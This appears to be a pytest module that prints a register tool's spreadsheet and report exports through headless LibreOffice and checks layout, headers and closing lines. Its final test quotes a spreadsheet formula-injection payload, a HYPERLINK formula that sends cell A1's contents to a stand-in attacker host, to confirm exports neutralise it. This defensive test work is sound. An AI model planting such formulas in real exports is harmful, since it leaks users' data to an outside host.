"""The exports and reports opened by a real office suite: LibreOffice headless converts them to PDF.

What a clerk notices when printing: the 台账 is one A4 landscape page wide
with every column header on every page, the reports' table headers repeat on
the next page, the 落款 closes the report; and a spreadsheet program never
runs a cell as a formula. LibreOffice is slow to start, so every file is
converted in one run per module (`.ci/ensure-libreoffice` installs it; the
tests are skipped without it).
"""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from yuqing.cli import main
from yuqing.register import load_register
from yuqing.reports import Table, weekly
from yuqing.times import parse_time, zone
from yuqing.export import DEADLINE_COLUMNS, DETAIL_COLUMNS

from .conftest import PROJECT, RegisterDir
from .test_export import HOSTILE_UNIT, LEDGER_HEADERS, hostile_register
from .test_stats import NOW

pytestmark = pytest.mark.slow

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
EXAMPLE_NOW = "2026-11-23T09:00:00+08:00"


def at(text: str) -> Any:
    return parse_time(text, zone("Asia/Shanghai"))


def _soffice(profile: Path, outdir: Path, target: str, files: list[Path], *extra: str) -> None:
    assert SOFFICE is not None
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", *extra,
                    "--convert-to", target, "--outdir", str(outdir), *map(str, files)],
                   check=True, capture_output=True, timeout=300)


def pages(pdf: Path) -> list[str]:
    """The text of each page (pdftotext puts a form feed between pages)."""
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
                          text=True).stdout
    return text.split("\f")[:-1]


def page_count(pdf: Path) -> int:
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    match = re.search(r"^Pages:\s+(\d+)", info, re.M)
    assert match
    return int(match.group(1))


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.fixture(scope="module")
def office(tmp_path_factory: Any) -> Path:
    if SOFFICE is None or shutil.which("pdftotext") is None:
        pytest.skip("需要 LibreOffice 与 poppler-utils(运行 .ci/ensure-libreoffice 安装)")
    folder = tmp_path_factory.mktemp("office")
    example = ["--root", str(PROJECT), "--now", EXAMPLE_NOW]
    assert main(["export", "xlsx", *example, "--out", str(folder / "ledger.xlsx")]) == 0
    for kind in ("weekly", "annual"):
        assert main(["report", kind, *example, "--format", "docx", "--out", str(folder / f"{kind}.docx")]) == 0
    hostile = hostile_register(RegisterDir(tmp_path_factory.mktemp("hostile")))
    args = ["--root", str(hostile.root), "--now", NOW]
    assert main(["export", "xlsx", *args, "--out", str(folder / "hostile.xlsx")]) == 0
    assert main(["export", "csv", *args, "--out", str(folder / "hostile.csv")]) == 0
    profile = folder / "profile"
    _soffice(profile, folder, "pdf", [folder / n for n in ("ledger.xlsx", "weekly.docx", "annual.docx",
                                                          "hostile.xlsx")])
    # The CSV as a spreadsheet program reads it: UTF-8, comma, double quotes, and formulas evaluated.
    (folder / "csv").mkdir()
    _soffice(profile, folder / "csv", "xlsx", [folder / "hostile.csv"], "--infilter=CSV:44,34,76,1")
    return folder


def ledger_pages(folder: Path, name: str) -> list[str]:
    """The pages printed from the 台账 sheet (the workbook's other sheets follow it)."""
    return [p for p in pages(folder / name) if "处置经过" in p]


def test_ledger_prints_one_page_wide_with_every_header_on_every_page(office: Path) -> None:
    printed = ledger_pages(office, "ledger.pdf")
    # 24 records of the example register, rows as high as their 处置经过: seven A4 landscape pages,
    # each one page wide (the fit-to-width scale), each with the whole header row.
    assert len(printed) == 7
    for number, text in enumerate(printed, start=1):
        flat = squeeze(text)
        missing = [h for h in LEDGER_HEADERS if h not in flat]
        assert not missing, (number, missing)
    assert "示例市市场监督管理局舆情台账" in squeeze(printed[0])
    assert "制表日期:2026年11月23日" in squeeze(printed[0])
    assert "第1页" in squeeze(printed[0])
    info = subprocess.run(["pdfinfo", str(office / "ledger.pdf")], capture_output=True, text=True).stdout
    assert "841.89 x 595.3" in info  # A4 landscape
    # Every record's id is printed once, in order.
    ids = re.findall(r"YQ-\d{4}-\d{4}", "".join(printed))
    assert ids == sorted(ids) and len(ids) == len(set(ids)) == 24


def printed_sizes(pdf: Path, word: str) -> list[float]:
    """The printed size in points of ``word`` (two CJK characters) on each page that has it: a CJK
    character is as wide as its font size."""
    layout = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], check=True, capture_output=True,
                            text=True).stdout
    sizes = []
    for page in layout.split("<page ")[1:]:
        found = re.search(rf'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">{word}</word>', page)
        if found:
            sizes.append((float(found.group(2)) - float(found.group(1))) / len(word))
    return sizes


def test_detail_and_deadline_sheets_print_readably_with_the_ledgers_heading(office: Path) -> None:
    everything = pages(office / "ledger.pdf")
    # The pages after the 台账's: 明细, then 时限, each as many A4 pages wide as it takes, 编号 on every one.
    wide = [p for p in everything if "编号" in p and "处置经过" not in p]
    split = next(n for n, p in enumerate(wide) if "处置时限表" in p)
    detail, deadlines = wide[:split], wide[split:]
    assert len(detail) == 6 and len(deadlines) == 4   # 明细 three pages wide, 时限 two; two rows of pages each
    first = squeeze(detail[0])
    assert "示例市市场监督管理局舆情台账(明细)" in first and "制表日期:2026年11月23日" in first
    assert "示例市市场监督管理局舆情处置时限表" in squeeze(deadlines[0])
    for header in (c.header for c in DETAIL_COLUMNS):
        assert header in squeeze("".join(detail[:3])), header   # every column, on the first row of pages
    for header in (c.header for c in DEADLINE_COLUMNS):
        assert header in squeeze("".join(deadlines[:2])), header
    # Every page of both starts its rows with the ids (the 编号 column repeated) ...
    for page in wide:
        assert re.search(r"^\s*YQ-\d{4}-\d{4}", page, re.M), page[:200]
    # ... and prints at a size one can read: 10 pt at 75 %, never below 7 pt (the 台账 sheet's own scale
    # fits 16 columns on one page).
    sizes = printed_sizes(office / "ledger.pdf", "编号")
    assert len(sizes) == 7 + len(wide)
    assert all(size >= 7 for size in sizes[7:]), sizes


def test_report_tables_repeat_their_header_and_the_report_ends_with_its_closing(office: Path) -> None:
    weekly = pages(office / "weekly.pdf")
    assert page_count(office / "weekly.pdf") == len(weekly) == 3
    annual = pages(office / "annual.pdf")
    assert page_count(office / "annual.pdf") == len(annual) == 4
    # The timeliness table of (二)分级报送和处置时效 starts on page 2 and runs onto page 3, which starts
    # with the table's header row again.
    assert "(二)分级报送和处置时效" in squeeze(annual[1])
    first_line = squeeze(next(line for line in annual[2].splitlines() if line.strip()))
    assert first_line.startswith("时限按时完成超时完成逾期未办")
    for document in (weekly, annual):
        last = [squeeze(line) for line in document[-1].splitlines() if line.strip()]
        # 落款: the unit and the day, the page number below.
        assert last[-3:-1] == ["示例市市场监督管理局", "2026年11月23日"]
        # No heading is left alone at the foot of a page: the last line above the page number never is one.
        for page in document:
            lines = [squeeze(line) for line in page.splitlines() if line.strip()]
            assert not re.match(r"^(?:[一二三四五六七八九十]+、|([一二三四五六七八九十]+))", lines[-2]), lines[-2]


def words(pdf: Path) -> Counter[str]:
    """The words pdftotext finds (a run of CJK text within one printed line is one word)."""
    layout = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], check=True, capture_output=True,
                            text=True).stdout
    return Counter(html.unescape(w) for w in re.findall(r"<word [^>]*>([^<]*)</word>", layout))


def test_weekly_tables_never_break_a_level_or_a_units_name(office: Path) -> None:
    """Short values stay whole in their cells: "重大" is never "重/大", a unit's name never two lines."""
    report = weekly(load_register(PROJECT, now=at(EXAMPLE_NOW)), None, at(EXAMPLE_NOW))
    expected: Counter[str] = Counter()
    for table in (b for b in report.blocks if isinstance(b, Table)):
        for index, header in enumerate(table.headers):
            if header in ("等级", "最高等级", "责任单位"):
                expected.update(row[index] for row in table.rows)
    assert {"重大", "特别重大", "产品质量安全监督管理科", "消费者权益保护科"} <= set(expected)
    printed = words(office / "weekly.pdf")
    assert {value: min(printed[value], n) for value, n in expected.items()} == dict(expected), printed


def test_office_suite_never_runs_an_exported_cell_as_a_formula(office: Path) -> None:
    printed = squeeze("".join(pages(office / "hostile.pdf")))
    # Shown as the text written (with the apostrophe), not as the link text a formula would show.
    assert squeeze("'" + HOSTILE_UNIT) in printed
    # (The title wraps after "http://" in the 明细 sheet's column: the two lines, each whole.)
    assert squeeze("'=HYPERLINK(\"http://") in printed and squeeze("evil.example/?\"&A1,\"点击查看\")") in printed
    book = openpyxl.load_workbook(office / "csv" / "hostile.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and "=HYPERLINK(\"http://evil" in c.value for c in cells)
    rows = list(csv.reader(io.StringIO((office / "hostile.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert [r[1] for r in rows] == ["编号", "YQ-2025-0001"]
